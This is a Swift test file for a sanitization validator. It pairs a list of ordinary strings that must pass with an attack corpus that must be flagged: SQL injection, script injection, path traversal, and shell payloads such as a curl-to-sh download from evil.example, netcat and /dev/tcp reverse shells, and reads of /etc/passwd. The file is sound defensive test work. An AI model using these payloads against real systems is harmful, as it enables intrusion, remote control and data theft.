import Testing
@testable import Validation

/// Ordinary text that must never trigger any rule.
let benignCorpus: [String] = [
    // The brief's own examples
    "O'Brien", "AT&T", "C:\\Users", "<3", "select your plan", "Rock & Roll", "5 > 3", "it's 50% off", "DROP by anytime",
    "../ in a sentence", "Use ../ to go up one directory",
    // Names
    "John O'Neil-Smith", "Mary-Jane D'Arcy", "Ben & Jerry's", "Zoë Saldaña", "José Ñúñez", "Nguyễn Văn An", "李小龙",
    "Jean-Luc Picard", "Kill Bill; Vol. 1",
    // Addresses
    "123 Main St., Apt #4", "Flat 2/3, 10 Downing Street", "P.O. Box 1234", "São Paulo, Brasil", "東京都渋谷区", "Zürich; Switzerland",
    "C:\\Users\\alice\\Documents\\report.docx", "/home/user/docs/report.pdf", "Path: /usr/local/bin", "~/projects/app",
    // Prose
    "The union selected a new leader", "The onload event fires after the page loads", "He said \"hello\" and left",
    "She replied 'yes' and 'no'", "It's a 'quoted' -- aside", "Don't forget: meeting at 10:30", "JavaScript: The Good Parts",
    "Learn JavaScript: it's fun", "Please sleep (at least 8 hours)", "Meet me at 5; bring snacks & drinks",
    "That's it; id est, the end", "email me at a.b@c.com; or call 555-1234", "50% off -- today only!", "I'm 100% sure",
    "Rock 'n' Roll", "He was 'on point'", "Text with – en dash and — em dash", "Call 1-800-FLOWERS", "wait.../what",
    "Salt & pepper; to taste", "Q&A session; bring questions", "Tom & Jerry", "dogs; cats; birds", "Click here -> next page",
    "Temperature: -5°C to +3°C", "emoji 🎉 party", "Hello\tWorld\nNew line\r\n", "Price: $5 (approx.)", "$100 or $200",
    "Cost: 5 € / month", "A | B testing", "Home | About | Contact", "Terms & Conditions | Privacy Policy", "cats | dogs",
    "The constructor of the class", "Error: file not found (code 404)", "Order #1234 -- shipped",
    // Emails and URLs
    "alice@example.com", "bob+tag@example.co.uk", "https://example.com/search?q=shoes&size=42",
    "http://localhost:8080/api/v1/users", "mailto:someone@example.com", "https://en.wikipedia.org/wiki/O'Reilly_Media",
    // Code-ish text
    "if (a < b && c > d) { return; }", "for (int i = 0; i < n; i++)", "SELECT name FROM users WHERE id = ?",
    "print(\"Hello, world!\")", "console.log('done');", "const x = { a: 1, b: [2, 3] };", "x = y || z",
    "./configure --prefix=/usr/local", "#!/usr/bin/env python", "a <= b >= c", "Use ${name} as a placeholder",
    "I <3 <link> tags", "<!-- comment -->", "He ran `rm -rf node_modules` and it worked", "Note: use `sudo` carefully",
    "Sleep 5 minutes; sleep 10 more", "ping me; ping you", "root@server:~# ls -la", "Either 'A' or 'B' is fine",
    "I'll be there -- promise", "5' 11\" tall", "the 'or' operator", "10 < 20 and 30 > 20", "Tickets: $(price) each",
    "Select * from the menu below", "Bob's Burgers & Fries", "file.tar.gz", "a=1&b=2", "https://example.com/?redirect=/home",
    "Insert coin; insert into slot", "Let's drop table tennis for now", "He wrote \"x\" or \"y\" like before",
    "C:\\Windows\\System32\\drivers", "Edit your /etc/hosts file", "Use $(this).hide() in jQuery", "$(document).ready()",
    "Use `cat file.txt | grep foo` to search", "user@host:~$ whoami", "rm -rf is dangerous", "Dr. Who & Co. | BBC",
    "Version 2.0.1-beta", "user_name-123", "10/20/2024", "1..10", "#hashtag #swift",
    // JSON in strings
    "{\"name\":\"Widget\",\"price\":9.99}", "[1, 2, 3]", "{\"query\": \"select\", \"or\": 1}", "{\"note\": \"it's fine\"}",
    // Markdown
    "**Bold** and _italic_ text", "# Heading\n\nSome paragraph with `code`.", "Run `npm install` to set up the project",
    "Run `ls -la` to list files", "[docs](../README.md)", "- item one\n- item two", "<b>bold</b> text", "> quoted reply",
]

/// Attacks that must trigger a rule, with the rule expected.
let attackCorpus: [(String, SanitizationRule)] = [
    // SQL injection
    ("' OR 1=1 --", .sqlInjection), ("' OR '1'='1", .sqlInjection), ("admin'--", .sqlInjection), ("admin' #", .sqlInjection),
    ("1' OR '1'='1' --", .sqlInjection), ("\" OR \"\"=\"", .sqlInjection), ("') OR ('a'='a", .sqlInjection),
    ("1 OR 1=1", .sqlInjection), ("id=1 or 1=1", .sqlInjection), ("' UNION SELECT username, password FROM users --", .sqlInjection),
    ("1 UNION ALL SELECT NULL,NULL--", .sqlInjection), ("1/**/UNION/**/SELECT/**/1", .sqlInjection),
    ("1; DROP TABLE users", .sqlInjection), ("'; DROP TABLE users; --", .sqlInjection), ("1; DELETE FROM accounts", .sqlInjection),
    ("x'; INSERT INTO admins VALUES ('evil')--", .sqlInjection), ("1 AND SLEEP(5)", .sqlInjection),
    ("1'; WAITFOR DELAY '0:0:5'--", .sqlInjection), ("' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--", .sqlInjection),
    ("1; UPDATE users SET role='admin'", .sqlInjection), ("' or true--", .sqlInjection),
    ("1; DROP TABLE users--", .sqlInjection), ("'; CREATE TABLE pwn (x int)--", .sqlInjection), ("' OR username LIKE '%", .sqlInjection),
    ("1;SHUTDOWN", .sqlInjection), ("'; EXEC xp_cmdshell 'dir'--", .sqlInjection),
    // HTML / script
    ("<script>alert(1)</script>", .markupInjection), ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", .markupInjection),
    ("javascript:alert(document.cookie)", .markupInjection), ("JaVaScRiPt:alert(1)", .markupInjection),
    ("java\tscript:alert(1)", .markupInjection), ("<img src=x onerror=alert(1)>", .markupInjection),
    ("\" onmouseover=\"alert(1)", .markupInjection), ("<svg/onload=alert(1)>", .markupInjection),
    ("<iframe src=\"https://evil.example\"></iframe>", .markupInjection), ("<body onload=alert('x')>", .markupInjection),
    ("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", .markupInjection),
    ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", .markupInjection), ("<a href=\"javascript:void(0)\">x</a>", .markupInjection),
    // Path traversal
    ("../../etc/passwd", .pathTraversal), ("..\\..\\windows\\win.ini", .pathTraversal), ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", .pathTraversal),
    ("..%2f..%2fetc%2fpasswd", .pathTraversal), ("%252e%252e%252fetc%252fpasswd", .pathTraversal),
    ("/var/www/images/../../../etc/shadow", .pathTraversal), ("....//....//etc/passwd", .pathTraversal),
    ("../secret.txt", .pathTraversal), ("/etc/passwd", .pathTraversal), ("images/../../config.yml", .pathTraversal),
    // Shell
    ("$(whoami)", .shellInjection), ("$(cat /etc/passwd)", .shellInjection), ("`id`", .shellInjection),
    ("file`whoami`.txt", .shellInjection), ("; rm -rf /", .shellInjection), ("| cat /etc/passwd", .shellInjection),
    ("&& curl http://evil.example/x.sh | sh", .shellInjection), ("|| wget http://evil.example", .shellInjection),
    ("x; nc -e /bin/sh 10.0.0.1 4444", .shellInjection), ("127.0.0.1; ls -la", .shellInjection),
    ("${jndi:ldap://evil.example/a}", .shellInjection), ("a;cat${IFS}x", .shellInjection),
    ("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", .shellInjection), ("name; whoami", .shellInjection), ("x | id", .shellInjection),
]

struct SanitizationCorpusTests {
    @Test func corporaAreBigEnough() {
        #expect(benignCorpus.count >= 60)
        #expect(attackCorpus.count >= 40)
    }

    @Test("benign text triggers nothing", arguments: benignCorpus)
    func benign(text: String) {
        let findings = SanitizationPolicy.all.findings(text)
        #expect(findings.isEmpty, "\(findings)")
    }

    @Test("attacks trigger a rule with every rule on", arguments: attackCorpus.map { AttackCase(text: $0.0, rule: $0.1) })
    func attack(_ attack: AttackCase) {
        let findings = SanitizationPolicy.all.findings(attack.text)
        #expect(findings.contains { $0.rule == attack.rule }, "\(findings)")
    }

    @Test("attacks are also caught with only their own rule on", arguments: attackCorpus.map { AttackCase(text: $0.0, rule: $0.1) })
    func attackAlone(_ attack: AttackCase) {
        #expect(SanitizationPolicy(enabledRules: [attack.rule]).scan(attack.text)?.rule == attack.rule)
    }
}

struct AttackCase: Sendable, CustomTestStringConvertible {
    var text: String
    var rule: SanitizationRule
    var testDescription: String { "\(rule.rawValue): \(text.debugDescription)" }
}
